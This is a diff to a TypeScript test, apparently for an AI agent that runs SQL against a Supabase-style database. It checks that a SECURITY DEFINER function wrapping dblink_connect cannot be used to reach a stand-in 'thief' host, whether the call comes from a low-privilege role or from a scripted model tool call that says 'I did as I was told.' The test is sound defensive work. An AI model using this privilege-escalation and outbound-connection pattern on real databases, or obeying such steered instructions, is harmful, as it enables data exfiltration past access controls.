@@ -123,8 +123,35 @@ test('where an operator leaves a way out open to everybody, nothing is run for a
     }
     expect(visits).toEqual([]);
     expect(await fingerprint(at)).toBe(before);
+
+    // Lent to the owner only, and passed on by a function that runs with the owner's rights.
+    await operator.query(`revoke execute on all functions in schema extensions from public;
+      grant execute on all functions in schema extensions to postgres`);
+    const { port } = thief.address() as AddressInfo;
+    const away = `host=127.0.0.1 port=${port} user=x password=x connect_timeout=2`;
+    await at.api.rows(
+      at.ref,
+      `create function public.reach(said text) returns text language sql security definer
+         as $$ select extensions.dblink_connect(said) $$`,
+    );
+    await operator.query(`set role supabase_read_only_user`);
+    await expect(operator.query('select public.reach($1)', [away])).rejects.toThrow(/establish connection/);
+    await operator.query('reset role');
+    expect(visits.splice(0)).toEqual(['a connection']);
+    at.model.play([
+      { tools: [{ name: 'execute_sql', input: { sql: `select public.reach('${away}')` } }] },
+      { text: 'I did as I was told.' },
+    ]);
+    const chunks = await at.answer(randomUUID(), 'What is new?');
+    expect(chunks.find(({ type }) => type === 'tool-output-error')?.errorText).toContain(
+      'with the rights of postgres, who may call extensions.dblink',
+    );
+    expect(visits).toEqual([]);
   } finally {
-    await operator.query('revoke execute on all functions in schema extensions from public').catch(() => {});
+    await operator.query('reset role; drop function if exists public.reach(text)').catch(() => {});
+    await operator
+      .query('revoke execute on all functions in schema extensions from public, postgres')
+      .catch(() => {});
     await operator.end();
   }
 });
